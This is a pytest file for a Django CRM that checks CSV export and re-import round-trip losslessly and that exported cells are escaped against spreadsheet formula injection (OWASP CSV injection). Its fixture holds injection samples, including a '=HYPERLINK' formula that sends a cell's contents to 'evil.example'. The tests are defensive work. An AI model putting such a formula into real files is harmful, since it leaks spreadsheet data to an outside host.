"""Export → import into an empty book → export gives the same file, for every record type."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command

from crm import services
from crm.imports.exporting import records_export
from crm.imports.formats import FORMATS
from crm.imports.services import records_import
from crm.models import (
    Client,
    ClientOwnership,
    Contact,
    DealStage,
    DealStageChange,
    Interaction,
    RelationshipType,
)
from surveys.models import Invitation, Response, SurveyKind
from tests.factories import ContactFactory
from tests.surveys.factories import InvitationFactory, UninvitedResponseFactory

LONDON = ZoneInfo("Europe/London")
# The order an empty book is filled in: later files name records of earlier ones.
IMPORT_ORDER = [
    "clients",
    "ownership_history",
    "status_history",
    "contacts",
    "interactions",
    "follow_ups",
    "support_issues",
    "deals",
    "revenue",
    "projects",
    "shared_goals",
    "goal_reviews",
    "feedback",
    "partner_referrals",
    "partner_certifications",
    "survey_answers",
    "survey_invitations",
]


def at(*args) -> datetime:
    return datetime(*args, tzinfo=LONDON)


@pytest.fixture
def book(alice, bob, admin_user):
    """A book touching every record type, made through the services as people would."""
    partner = services.client_create(
        # Text a spreadsheet would run as a formula, in every kind of text cell: names that
        # other files refer to, free text, phones, comments (OWASP CSV injection).
        name="=Cobalt Partners",
        relationship_type=RelationshipType.PARTNER,
        owner=alice,
        relationship_started_on=date(2023, 1, 2),
        website="https://cobalt.example",
    )
    acme = services.client_create(
        name='Acme, "Logistics"',
        relationship_type=RelationshipType.STRATEGIC,
        owner=alice,
        relationship_started_on=date(2023, 4, 1),
        sourced_by_partner=partner,
        notes="\tTwo lines\nof notes",
    )
    services.client_reassign(client=acme, new_owner=bob, at=at(2024, 7, 1, 9), by=admin_user)
    services.client_churn(client=partner, on=date(2024, 9, 30), reason="Budget cut")
    services.client_reactivate(client=partner, on=date(2025, 1, 6))
    dana = ContactFactory(
        client=acme,
        name="Dana Reyes",
        email="dana@acme.example",
        phone="+44 20 7946 0000",
        role="-Head of Ops",
    )
    sam = ContactFactory(client=acme, name="@Sam Ode", email="", role="'Tis the role")
    services.contact_opt_out(contact=sam)
    message = services.interaction_log(
        client=acme,
        logged_by=alice,
        kind=Interaction.Kind.EMAIL,
        occurred_at=at(2024, 6, 3, 10, 15, 30, 123456),
        topic="+Renewal",
        contacts=[dana, sam],
    )
    services.interaction_log(
        client=acme,
        logged_by=bob,
        kind=Interaction.Kind.EMAIL,
        occurred_at=at(2024, 7, 2, 8),
        in_reply_to=message,
        summary="Yes, let's talk.",
        follow_up_title="Book the call",
        follow_up_due_on=date(2024, 7, 9),
    )
    services.interaction_log(
        client=partner, logged_by=alice, kind=Interaction.Kind.NOTE, occurred_at=at(2024, 1, 5)
    )
    done = services.follow_up_create(
        client=acme, owner=bob, title="Send the proposal", due_on=date(2024, 8, 1)
    )
    services.follow_up_complete(follow_up=done, outcome="Sent", at=at(2024, 7, 30, 17))
    issue = services.support_issue_open(
        client=acme, title="Invoices", priority="high", opened_at=at(2024, 2, 1, 9), contact=dana
    )
    services.support_issue_resolve(issue=issue, at=at(2024, 2, 2, 9))
    services.support_issue_open(
        client=acme, title="Portal login", priority="low", opened_at=at(2024, 11, 1, 9)
    )
    stages = {stage.name: stage for stage in DealStage.objects.all()}
    deal = services.deal_create(
        client=acme,
        title="Analytics upsell",
        value=Decimal("40000.00"),
        kind="upsell",
        created_at=at(2024, 3, 1, 9),
        created_by=alice,
        partner=partner,
    )
    services.deal_move(deal=deal, to_stage=stages["Proposal"], at=at(2024, 5, 1, 9), by=alice)
    services.deal_move(deal=deal, to_stage=stages["Won"], at=at(2024, 8, 1, 9), by=bob)
    services.deal_create(
        client=acme, title="Renewal", value=Decimal("1.50"), created_at=at(2024, 10, 1, 9)
    )
    services.revenue_line_record(
        client=acme,
        product_name="Analytics",
        amount=Decimal("12500.00"),
        recognised_on=date(2024, 8, 31),
        deal=deal,
        cost_to_serve=4000,
    )
    services.revenue_line_record(
        client=partner,
        product_name="Referral fee",
        amount=Decimal("-20.05"),
        recognised_on=date(2024, 1, 31),
    )
    project = services.project_create(
        client=acme, name="Roll-out", due_on=date(2024, 9, 30), started_on=date(2024, 8, 1)
    )
    services.project_complete(project=project, at=at(2024, 9, 20, 12))
    goal = services.shared_goal_create(client=acme, title="-Cut claims", due_on=date(2024, 12, 31))
    services.shared_goal_review(goal=goal, on=date(2024, 6, 30), note="On track")
    services.shared_goal_review(goal=goal, on=date(2024, 9, 30))
    services.shared_goal_assess(goal=goal, met=True, on=date(2025, 1, 10))
    services.shared_goal_create(client=acme, title="Open a second site", due_on=date(2025, 6, 30))
    item = services.feedback_item_record(
        client=acme, summary="@Weekly report", received_on=date(2024, 2, 14)
    )
    services.feedback_item_close(item=item, outcome="implemented", on=date(2024, 4, 1))
    services.feedback_item_record(client=acme, summary="Dark mode", received_on=date(2024, 5, 1))
    services.partner_referral_record(
        partner=partner, lead_name="=Northwind", received_on=date(2024, 2, 3), referred_client=acme
    )
    services.partner_referral_record(
        partner=partner, lead_name="Fabrikam", received_on=date(2024, 3, 3)
    )
    services.partner_certification_record(
        partner=partner,
        name="Integrator",
        valid_from=date(2024, 1, 1),
        valid_until=date(2024, 12, 31),
    )
    UninvitedResponseFactory(
        client=acme,
        contact=dana,
        owner=alice,
        score=9,
        comment='Great, "really"',
        may_quote=True,
        answered_at=at(2024, 5, 5, 12),
    )
    for sent, status, answered in [
        (at(2024, 5, 1, 9), Invitation.Status.DELIVERED, at(2024, 5, 5, 12)),
        (at(2024, 9, 1, 9), Invitation.Status.BOUNCED, None),
        (at(2024, 10, 1, 9), Invitation.Status.DELIVERED, None),
    ]:
        InvitationFactory(
            client=acme,
            contact=dana,
            created_at=sent,
            status=status,
            delivered_at=sent if status == Invitation.Status.DELIVERED else None,
            answered_at=answered,
        )
    # A detractor whose loop was closed by a follow-up: the link survives the round trip.
    UninvitedResponseFactory(
        client=acme,
        contact=dana,
        owner=bob,
        score=3,
        answered_at=at(2024, 7, 25, 12),
        follow_up=done,
    )
    UninvitedResponseFactory(
        client=acme,
        owner=bob,
        kind=SurveyKind.CES,
        score=2,
        answered_at=at(2024, 10, 5, 12),
        comment='=HYPERLINK("http://evil.example/?d="&A2,"Open report")',
        source=Response.Source.IMPORT,
    )
    return acme


def export(record_type: str) -> str:
    out = io.StringIO()
    records_export(record_type=record_type, user=None, out=out)
    return out.getvalue()


def test_every_record_type_exports_and_imports_back_into_an_empty_book_unchanged(book):
    before = {record_type: export(record_type) for record_type in IMPORT_ORDER}
    assert set(IMPORT_ORDER) == set(FORMATS)
    Client.objects.all().delete()
    for record_type in IMPORT_ORDER:
        report = records_import(record_type=record_type, data=before[record_type].encode(), by=None)
        assert report.errors == [], record_type
    after = {record_type: export(record_type) for record_type in IMPORT_ORDER}
    for record_type in IMPORT_ORDER:
        assert before[record_type].count("\n") > 1, f"{record_type} exported no rows"
        assert after[record_type] == before[record_type], record_type


def test_the_reimported_book_credits_every_event_to_the_owner_at_the_time(book, alice, bob):
    files = {record_type: export(record_type) for record_type in IMPORT_ORDER}
    Client.objects.all().delete()
    for record_type in IMPORT_ORDER:
        records_import(record_type=record_type, data=files[record_type].encode(), by=None)
    acme = Client.objects.get(name__startswith="Acme")
    assert acme.owner == bob
    assert list(ClientOwnership.objects.filter(client=acme).values_list("owner", flat=True)) == [
        alice.pk,
        bob.pk,
    ]
    credited = dict(Interaction.objects.filter(client=acme).values_list("direction", "owner"))
    assert credited == {"outbound": alice.pk, "inbound": bob.pk}
    reply = Interaction.objects.get(client=acme, direction="inbound")
    assert reply.in_reply_to.direction == "outbound"
    moves = DealStageChange.objects.filter(deal__title="Analytics upsell").order_by("changed_at")
    assert [
        (m.from_stage and m.from_stage.name, m.to_stage.name, m.entered_from_at) for m in moves
    ] == [
        (None, "Qualified", None),
        ("Qualified", "Proposal", at(2024, 3, 1, 9)),
        ("Proposal", "Won", at(2024, 5, 1, 9)),
    ]
    assert [m.owner for m in moves] == [alice, alice, bob]
    assert Response.objects.filter(source=Response.Source.IMPORT).count() == 3
    closed = Response.objects.get(score=3)
    assert (closed.follow_up.title, closed.follow_up.done_at) == (
        "Send the proposal",
        at(2024, 7, 30, 17),
    )


def test_the_export_command_writes_the_same_file_as_the_service(book, tmp_path):
    target = tmp_path / "interactions.csv"
    call_command("export_csv", "interactions", "--out", str(target), stderr=io.StringIO())
    written = target.read_bytes().decode("utf-8")
    # A file is opened in Excel: it starts with the byte-order mark, then the same text.
    assert written == "\ufeff" + export("interactions")
    assert "2024-06-03T10:15:30.123456+01:00" in written


def test_no_text_cell_of_any_export_starts_like_a_formula(book):
    """What a spreadsheet would run: =, +, -, @, tab or CR first in a cell (OWASP)."""
    for record_type in IMPORT_ORDER:
        for line in csv.reader(io.StringIO(export(record_type))):
            hostile = [cell for cell in line if cell[:1] in ("=", "+", "@", "\t", "\r")]
            hostile += [cell for cell in line if cell.startswith("-") and not _is_number(cell)]
            assert hostile == [], record_type


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def test_a_comment_with_a_hyperlink_formula_is_exported_as_text(book):
    exported = export("survey_answers")
    cells = [cell for line in csv.reader(io.StringIO(exported)) for cell in line]
    assert '\'=HYPERLINK("http://evil.example/?d="&A2,"Open report")' in cells


def test_a_phone_survives_export_import_export_byte_for_byte(book):
    files = {record_type: export(record_type) for record_type in IMPORT_ORDER[:4]}
    assert "'+44 20 7946 0000" in files["contacts"]
    Client.objects.all().delete()
    for record_type, text in files.items():
        assert records_import(record_type=record_type, data=text.encode(), by=None).saved
    assert Contact.objects.get(name="Dana Reyes").phone == "+44 20 7946 0000"
    assert Contact.objects.get(name="@Sam Ode").role == "'Tis the role"
    assert export("contacts").encode() == files["contacts"].encode()


def test_a_negative_amount_stays_a_number_a_spreadsheet_computes_with(book):
    assert ",-20.05," in export("revenue")
